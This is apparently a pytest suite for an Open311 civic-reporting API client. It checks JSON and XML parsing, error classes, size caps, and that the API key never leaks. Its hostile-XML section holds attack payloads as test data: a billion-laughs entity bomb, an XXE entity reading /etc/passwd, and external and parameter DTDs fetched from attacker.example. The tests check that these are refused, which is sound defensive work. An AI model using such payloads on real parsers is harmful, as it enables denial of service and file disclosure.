"""Open311Client against httpx.MockTransport: how each JSON and XML answer is read and classed, that the
api_key travels only in the POST body, and that hostile or oversized answers are refused as Transient."""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qsl

import httpx
import pytest

from sync.answers import MAX_CATALOGUE_BYTES, MAX_RESPONSE_BYTES
from sync.errors import Permanent, TokenUnavailable, Transient
from sync.open311 import FORM, Open311Client, Posted

BASE = "https://o311.test/open311/v2"
KEY = "SeCrEt-api-KEY-0123456789"
XML = {"content-type": "text/xml; charset=utf-8"}
FIELDS = [("service_code", "pothole"), ("description", "A hole"), ("attribute[depth_cm]", "12")]

Handler = Callable[[httpx.Request], httpx.Response]


def client_for(
    handler: Handler,
    seen: list[httpx.Request] | None = None,
    *,
    fmt: str = "json",
    api_key: Any = KEY,
    jurisdiction_id: str | None = "harwood-vale",
) -> Open311Client:
    def recorded(request: httpx.Request) -> httpx.Response:
        if seen is not None:
            seen.append(request)
        return handler(request)

    return Open311Client(
        BASE,
        jurisdiction_id=jurisdiction_id,
        api_key=api_key,
        fmt=fmt,  # type: ignore[arg-type]
        transport=httpx.MockTransport(recorded),
    )


def answer(body: Any, status: int = 200) -> Handler:
    return lambda request: httpx.Response(status, json=body)


def answer_bytes(body: bytes) -> Handler:
    return lambda request: httpx.Response(200, content=body, headers={"content-type": "application/json"})


def xml_answer(body: str | bytes, status: int = 200, headers: dict[str, str] | None = None) -> Handler:
    content = body.encode("utf-8") if isinstance(body, str) else body
    return lambda request: httpx.Response(status, content=content, headers=headers or XML)


def form(request: httpx.Request) -> list[tuple[str, str]]:
    return parse_qsl(request.content.decode("utf-8"), keep_blank_values=True)


def transient(call: Callable[[], Any]) -> Transient:
    with pytest.raises(Transient) as caught:
        call()
    return caught.value


def permanent(call: Callable[[], Any]) -> Permanent:
    with pytest.raises(Permanent) as caught:
        call()
    return caught.value


# -- the calls, in JSON and XML -----------------------------------------------------------------------

SERVICES = [
    {"service_code": "pothole", "service_name": "Pothole", "metadata": True, "type": "realtime"},
    {"service_code": 42, "service_name": "Graffiti", "metadata": False, "type": "realtime"},
]
SERVICES_XML = """<?xml version="1.0" encoding="utf-8"?>
<services>
  <service><service_code>pothole</service_code><service_name>Pothole</service_name><metadata>true</metadata>
    <keywords><keyword>road</keyword><keyword>hole</keyword></keywords></service>
  <service><service_code>graffiti</service_code><service_name>Graffiti</service_name><metadata>false</metadata>
    <keywords/></service>
</services>"""
DEFINITION = {
    "service_code": "pothole",
    "attributes": [
        {"code": "depth_cm", "datatype": "number", "required": True, "values": []},
        {
            "code": "road_type",
            "datatype": "singlevaluelist",
            "required": False,
            "values": [{"key": "carriageway", "name": "Road"}, {"key": "footway", "name": "Pavement"}],
        },
    ],
}
DEFINITION_XML = """<?xml version="1.0" encoding="utf-8"?>
<service_definition><service_code>pothole</service_code><attributes>
  <attribute><code>depth_cm</code><datatype>number</datatype><required>true</required><values/></attribute>
  <attribute><code>road_type</code><datatype>singlevaluelist</datatype><required>false</required>
    <values><value><key>carriageway</key><name>Road</name></value><value><key>footway</key><name>Pavement</name></value></values>
  </attribute>
</attributes></service_definition>"""


def test_services_in_json_are_asked_for_with_the_jurisdiction_and_returned_as_given() -> None:
    seen: list[httpx.Request] = []
    services = client_for(answer(SERVICES), seen).services()
    assert services == SERVICES
    (request,) = seen
    assert request.method == "GET" and request.url.path == "/open311/v2/services.json"
    assert dict(request.url.params) == {"jurisdiction_id": "harwood-vale"}
    assert request.headers["Accept"] == "application/json"


def test_services_in_xml_come_in_the_json_shape() -> None:
    seen: list[httpx.Request] = []
    services = client_for(xml_answer(SERVICES_XML), seen, fmt="xml").services()
    assert [s["service_code"] for s in services] == ["pothole", "graffiti"]
    assert services[0]["keywords"] == ["road", "hole"] and services[0]["metadata"] == "true"
    assert seen[0].url.path == "/open311/v2/services.xml" and "xml" in seen[0].headers["Accept"]


def test_an_empty_list_element_in_xml_is_an_empty_list() -> None:
    services = client_for(xml_answer(SERVICES_XML), fmt="xml").services()
    assert services[1]["keywords"] == []


def test_a_definition_in_json_and_in_xml() -> None:
    seen: list[httpx.Request] = []
    assert client_for(answer(DEFINITION), seen).definition("pot hole/1") == DEFINITION
    assert seen[0].url.raw_path.startswith(b"/open311/v2/services/pot%20hole%2F1.json")
    got = client_for(xml_answer(DEFINITION_XML), fmt="xml").definition("pothole")
    assert got["service_code"] == "pothole"
    assert [a["code"] for a in got["attributes"]] == ["depth_cm", "road_type"]
    assert got["attributes"][0]["values"] == []  # <values/>: no values, not the text ""
    assert got["attributes"][1]["values"] == [
        {"key": "carriageway", "name": "Road"},
        {"key": "footway", "name": "Pavement"},
    ]


def test_a_definition_with_no_attributes_in_xml() -> None:
    body = "<service_definition><service_code>graffiti</service_code><attributes/></service_definition>"
    assert client_for(xml_answer(body), fmt="xml").definition("graffiti")["attributes"] == []


def test_a_definition_wrapped_in_a_list_is_taken() -> None:
    assert client_for(answer([DEFINITION])).definition("pothole") == DEFINITION


def test_a_post_is_form_encoded_with_the_jurisdiction_and_the_key_in_the_body_only() -> None:
    seen: list[httpx.Request] = []
    handler = answer([{"service_request_id": "HV-000001", "service_notice": "Thank you"}])
    posted = client_for(handler, seen).post(FIELDS)
    assert posted == Posted("HV-000001", None, "Thank you")
    (request,) = seen
    assert request.method == "POST" and request.url.path == "/open311/v2/requests.json"
    assert request.url.query == b""  # nothing in the address: not the jurisdiction, not the key
    assert request.headers["Content-Type"] == FORM
    assert form(request) == [*FIELDS, ("jurisdiction_id", "harwood-vale"), ("api_key", KEY)]
    assert KEY not in str(request.url) and KEY not in str(request.headers)


def test_a_post_without_a_jurisdiction_sends_none() -> None:
    seen: list[httpx.Request] = []
    client_for(answer([{"service_request_id": "1"}]), seen, jurisdiction_id=None).post(FIELDS)
    assert "jurisdiction_id" not in dict(form(seen[0]))


def test_a_numeric_service_request_id_is_text() -> None:
    assert client_for(answer([{"service_request_id": 638344}])).post(FIELDS) == Posted("638344", None, None)


def test_a_post_answered_with_a_token() -> None:
    posted = client_for(answer([{"token": "12345-abc", "service_notice": "  "}])).post(FIELDS)
    assert posted == Posted(None, "12345-abc", None)


def test_a_post_in_xml() -> None:
    body = (
        "<service_requests><request><service_request_id>293944</service_request_id>"
        "<service_notice>The City will inspect within 24 hours</service_notice></request></service_requests>"
    )
    seen: list[httpx.Request] = []
    posted = client_for(xml_answer(body, 201), seen, fmt="xml").post(FIELDS)
    assert posted == Posted("293944", None, "The City will inspect within 24 hours")
    assert seen[0].url.path == "/open311/v2/requests.xml"
    token = "<service_requests><request><token>abc-1</token></request></service_requests>"
    assert client_for(xml_answer(token), fmt="xml").post(FIELDS) == Posted(None, "abc-1", None)


def test_a_service_notice_is_made_printable() -> None:
    posted = client_for(answer([{"service_request_id": "1", "service_notice": "one\x1b[31m\ntwo"}])).post(FIELDS)
    assert posted.notice is not None and "\x1b" not in posted.notice and "\n" not in posted.notice


def test_a_token_gives_its_id_or_none_until_it_has_one() -> None:
    seen: list[httpx.Request] = []
    assert client_for(answer([{"service_request_id": "HV-7", "token": "t 1"}]), seen).token("t 1") == "HV-7"
    assert seen[0].url.raw_path.startswith(b"/open311/v2/tokens/t%201.json")
    assert client_for(answer([{"service_request_id": None, "token": "t"}])).token("t") is None
    assert client_for(answer([{"token": "t"}])).token("t") is None
    empty = "<service_requests><request><service_request_id/><token>t</token></request></service_requests>"
    assert client_for(xml_answer(empty), fmt="xml").token("t") is None


def test_an_unknown_token_is_none() -> None:
    handler = answer([{"code": 404, "description": "no token 't'"}], 404)
    assert client_for(handler).token("t") is None


def test_a_request_is_read_and_an_unknown_one_is_none() -> None:
    found = {"service_request_id": "HV-1", "status": "open", "requested_datetime": "2026-01-01T10:00:00Z"}
    seen: list[httpx.Request] = []
    assert client_for(answer([found]), seen).request("HV-1") == found
    assert seen[0].url.path == "/open311/v2/requests/HV-1.json"
    assert client_for(answer([{"code": 404, "description": "no such request"}], 404)).request("HV-2") is None
    body = "<errors><error><code>404</code><description>no such request</description></error></errors>"
    assert client_for(xml_answer(body, 404), fmt="xml").request("HV-2") is None


def test_find_asks_by_service_and_dates_and_keeps_only_objects() -> None:
    seen: list[httpx.Request] = []
    listed = client_for(answer([{"service_request_id": "1"}, "junk", 3]), seen).find("pothole", "a", "b")
    assert listed == [{"service_request_id": "1"}]
    assert dict(seen[0].url.params) == {
        "jurisdiction_id": "harwood-vale",
        "service_code": "pothole",
        "start_date": "a",
        "end_date": "b",
    }


# -- errors ---------------------------------------------------------------------------------------------


def test_an_open311_error_list_is_permanent_with_its_descriptions() -> None:
    errors = [
        {"code": 400, "description": "attribute[depth_cm] is required"},
        {"code": 400, "description": "service_code is wrong"},
    ]
    exc = permanent(lambda: client_for(answer(errors, 400)).post(FIELDS))
    assert exc.error_class == "open311_rejected" and exc.status == 400
    assert "attribute[depth_cm] is required" in exc.message and "service_code is wrong" in exc.message
    assert exc.field_errors == [{"message": "attribute[depth_cm] is required; service_code is wrong"}]


def test_an_xml_error_list_is_permanent_with_its_descriptions() -> None:
    body = (
        '<?xml version="1.0" encoding="utf-8"?><errors><error><code>400</code>'
        "<description>lat and long go together</description></error></errors>"
    )
    exc = permanent(lambda: client_for(xml_answer(body, 400), fmt="xml").post(FIELDS))
    assert exc.error_class == "open311_rejected" and "lat and long go together" in exc.message


def test_an_error_without_an_error_list_is_not_the_contract() -> None:
    exc = transient(lambda: client_for(answer({"detail": "no"}, 400)).post(FIELDS))
    assert exc.error_class == "open311_not_contract"
    assert transient(lambda: client_for(answer([], 422)).post(FIELDS)).error_class == "open311_not_contract"


def test_a_long_error_description_is_bounded() -> None:
    exc = permanent(lambda: client_for(answer([{"code": 400, "description": "x" * 5000}], 400)).post(FIELDS))
    assert len(exc.message) <= 400


@pytest.mark.parametrize("status", [401, 403])
def test_a_refused_key_is_transient_for_it(status: int) -> None:
    exc = transient(lambda: client_for(answer([{"code": status, "description": "bad key"}], status)).post(FIELDS))
    assert exc.error_class == "open311_api_key" and "open311 connect" in exc.message


@pytest.mark.parametrize("status", [500, 502, 503, 429])
def test_a_server_in_trouble_is_transient(status: int) -> None:
    exc = transient(lambda: client_for(answer([{"code": status, "description": "busy"}], status)).services())
    assert exc.error_class == f"open311_http_{status}"


@pytest.mark.parametrize(
    "handler",
    [
        lambda r: httpx.Response(200, html="<html><body>Log in to the council</body></html>"),
        lambda r: httpx.Response(200, content=b'[{"service_code": "x"}]', headers={"content-type": "text/plain"}),
        lambda r: httpx.Response(200, content=b'[{"service_code": "x"}]'),  # no content type at all
        lambda r: httpx.Response(302, headers={"Location": "https://login.example/"}),
        lambda r: httpx.Response(301, headers={"Location": BASE + "/services.json"}),
        lambda r: httpx.Response(200, content=b"[{not json", headers={"content-type": "application/json"}),
        lambda r: httpx.Response(200, content=b"\xff\xfe", headers={"content-type": "application/json"}),
        answer(["pothole", "graffiti"]),  # a list of non-objects
        answer([{"service_name": "no code"}]),
        answer({"services": SERVICES}),  # an object, not the list
    ],
    ids=["html", "text-plain", "no-type", "302", "301", "bad-json", "not-utf8", "strings", "no-code", "object"],
)
def test_answers_that_are_not_open311_are_transient(handler: Handler) -> None:
    assert transient(lambda: client_for(handler).services()).error_class == "open311_not_contract"


def test_xml_answered_to_a_json_client_and_json_to_an_xml_one_are_not_the_contract() -> None:
    exc = transient(lambda: client_for(xml_answer(SERVICES_XML)).services())
    assert exc.error_class == "open311_not_contract"
    exc = transient(lambda: client_for(answer(SERVICES), fmt="xml").services())
    assert exc.error_class == "open311_not_contract"


@pytest.mark.parametrize(
    "body",
    [
        [{"service_notice": "thanks"}],  # neither an id nor a token
        [{"service_request_id": None, "token": ""}],
        [{"service_request_id": True}],
        [{"service_request_id": {"id": 1}}],
        [],
        ["HV-1"],  # a list of non-objects
        [1, 2],
        {"service_request_id": "HV-1"},  # not a list
    ],
)
def test_a_post_answer_without_the_request_is_not_the_contract(body: Any) -> None:
    assert transient(lambda: client_for(answer(body)).post(FIELDS)).error_class == "open311_not_contract"


@pytest.mark.parametrize("body", [[], ["x"], [3], {"service_request_id": "1"}])
def test_token_and_request_answers_without_a_request_are_not_the_contract(body: Any) -> None:
    assert transient(lambda: client_for(answer(body)).token("t")).error_class == "open311_not_contract"
    assert transient(lambda: client_for(answer(body)).request("1")).error_class == "open311_not_contract"


def test_a_requests_list_that_is_not_a_list_is_not_the_contract() -> None:
    assert client_for(answer([])).find("s", "a", "b") == []
    exc = transient(lambda: client_for(answer({"service_requests": []})).find("s", "a", "b"))
    assert exc.error_class == "open311_not_contract"


def test_a_token_or_request_refused_otherwise_than_404_is_raised() -> None:
    handler = answer([{"code": 400, "description": "bad id"}], 400)
    assert permanent(lambda: client_for(handler).token("t")).status == 400
    assert permanent(lambda: client_for(handler).request("r")).status == 400


# -- hostile XML ------------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE services [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<services><service><service_code>&lol9;</service_code></service></services>"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE services [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<services><service><service_code>&xxe;</service_code></service></services>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE services SYSTEM "http://attacker.example/evil.dtd">
<services><service><service_code>x</service_code></service></services>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE services [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<services><service><service_code>x</service_code></service></services>"""
PLAIN_DTD = """<?xml version="1.0"?>
<!DOCTYPE services [<!ELEMENT services ANY>]>
<services><service><service_code>x</service_code></service></services>"""
DEEP = "<services><service>" + "<a>" * 5000 + "x" + "</a>" * 5000 + "</service></services>"
DEEPER = "<services>" + "<a>" * 100_000 + "</a>" * 100_000 + "</services>"  # under the size cap


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL,
        EXTERNAL_DTD,
        PARAMETER,
        PLAIN_DTD,
        DEEP,
        DEEPER,
        "<html><body>Log in</body></html>",  # well-formed, but not an Open311 root
        "<rss><channel/></rss>",
        '<services xmlns="urn:x"><service><service_code>x</service_code></service></services>',
        "<services><service><service_code>x</service_code>",  # cut off
        "not xml at all",
        "",
        b'<?xml version="1.0" encoding="utf-8"?><services>\xff</services>',
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entity",
        "plain-dtd",
        "deep",
        "deeper",
        "html",
        "rss",
        "namespace",
        "cut-off",
        "text",
        "empty",
        "bad-byte",
    ],
)
def test_hostile_or_foreign_xml_is_refused_cleanly(body: str | bytes) -> None:
    client = client_for(xml_answer(body), fmt="xml")
    for call in (client.services, lambda: client.post(FIELDS), lambda: client.token("t")):
        try:
            call()
        except Transient as exc:
            assert exc.error_class == "open311_not_contract", exc.error_class
            assert "/etc/passwd" not in exc.message and "root:" not in exc.message
        else:  # pragma: no cover - what must not happen
            pytest.fail("a hostile answer was taken")


def test_hostile_xml_in_an_error_answer_is_refused_too() -> None:
    exc = transient(lambda: client_for(xml_answer(BILLION_LAUGHS, 400), fmt="xml").post(FIELDS))
    assert exc.error_class == "open311_not_contract"


def test_xml_a_little_under_the_depth_limit_is_read() -> None:
    nested = "<service_definition><service_code>x</service_code><attributes><attribute><code>a</code><values>"
    nested += "<value><key>k</key><name>" + "<b>" * 20 + "n" + "</b>" * 20 + "</name></value>"
    nested += "</values></attribute></attributes></service_definition>"
    got = client_for(xml_answer(nested), fmt="xml").definition("x")
    assert got["attributes"][0]["code"] == "a"


# -- size caps ---------------------------------------------------------------------------------------


def test_an_answer_over_the_size_cap_is_refused() -> None:
    big = b'[{"service_request_id": "1", "service_notice": "' + b"x" * MAX_RESPONSE_BYTES + b'"}]'
    handler = answer_bytes(big)
    exc = transient(lambda: client_for(handler).post(FIELDS))
    assert exc.error_class == "open311_too_large" and "Open311 server" in exc.message


def test_an_answer_over_the_size_cap_while_streaming_is_refused() -> None:
    def endless() -> Any:
        chunk = b" " * 65536
        for _ in range(MAX_CATALOGUE_BYTES // len(chunk) + 2):
            yield chunk

    def handler(request: httpx.Request) -> httpx.Response:  # no Content-Length: refused as it arrives
        return httpx.Response(200, content=endless(), headers={"content-type": "application/json"})

    assert transient(lambda: client_for(handler).services()).error_class == "open311_too_large"


def test_the_catalogue_calls_have_the_larger_cap() -> None:
    services = [{"service_code": f"s{i}", "description": "d" * 200} for i in range(MAX_RESPONSE_BYTES // 200)]
    assert len(client_for(answer(services)).services()) == len(services)


def test_an_unreachable_server_and_a_timeout_are_transient() -> None:
    def refuse(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    def slow(request: httpx.Request) -> httpx.Response:
        raise httpx.ReadTimeout("timed out", request=request)

    assert transient(lambda: client_for(refuse).services()).error_class == "open311_unreachable"
    assert transient(lambda: client_for(slow).post(FIELDS)).error_class == "open311_timeout"


# -- the api_key -------------------------------------------------------------------------------------


def test_the_key_is_never_in_an_address_a_message_or_a_log_record(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    seen: list[httpx.Request] = []
    answers = iter(
        [
            httpx.Response(200, json=SERVICES),
            httpx.Response(200, json=DEFINITION),
            httpx.Response(403, json=[{"code": 403, "description": "a valid api_key is required"}]),
            httpx.Response(400, json=[{"code": 400, "description": f"api_key {KEY} is not valid here"}]),
            httpx.Response(500, text=f"Traceback: api_key={KEY}"),
            httpx.Response(200, json=[{"service_request_id": "1", "service_notice": f"thanks {KEY}"}]),
            httpx.Response(200, json=[{"token": "t"}]),
            httpx.Response(200, json=[{"service_request_id": "1"}]),
            httpx.Response(200, json=[]),
        ]
    )
    client = client_for(lambda r: next(answers), seen)
    said: list[str] = []
    client.services()
    client.definition("pothole")
    for _ in range(3):
        try:
            client.post(FIELDS)
        except (Transient, Permanent) as exc:
            said += [exc.message, str(exc), repr(exc), str(getattr(exc, "field_errors", ""))]
    said.append(str(client.post(FIELDS)))
    client.post(FIELDS)
    client.request("1")
    client.find("pothole", "a", "b")
    assert len(seen) == 9
    for request in seen:
        assert KEY not in str(request.url) and KEY not in str(request.headers)
    assert [r.method for r in seen if KEY in r.content.decode()] == ["POST"] * 5
    for text in said:
        assert KEY not in text, text
    for record in caplog.records:
        assert KEY not in record.getMessage() and KEY not in str(record.args)
    assert KEY not in caplog.text


def test_a_key_from_the_keyring_is_read_when_first_needed_and_sent() -> None:
    asked: list[int] = []

    def from_keyring() -> str:
        asked.append(1)
        return KEY

    seen: list[httpx.Request] = []
    client = client_for(answer([{"service_request_id": "1"}]), seen, api_key=from_keyring)
    assert asked == []  # not read until a POST needs it
    client.post(FIELDS)
    client.post(FIELDS)
    assert ("api_key", KEY) in form(seen[0]) and ("api_key", KEY) in form(seen[1])
    assert len(asked) == 1


def test_a_keyring_that_cannot_be_read_is_transient_and_nothing_is_sent() -> None:
    def locked() -> str:
        raise TokenUnavailable("the keyring cannot be read (LockedError)")

    seen: list[httpx.Request] = []
    exc = transient(lambda: client_for(answer([{"service_request_id": "1"}]), seen, api_key=locked).post(FIELDS))
    assert exc.error_class == "open311_keyring" and "LockedError" in exc.message
    assert seen == []


def test_no_key_in_the_keyring_is_a_key_problem_and_nothing_is_sent() -> None:
    seen: list[httpx.Request] = []
    exc = transient(lambda: client_for(answer([{"service_request_id": "1"}]), seen, api_key=lambda: None).post(FIELDS))
    assert exc.error_class == "open311_api_key" and "open311 connect" in exc.message
    assert seen == []
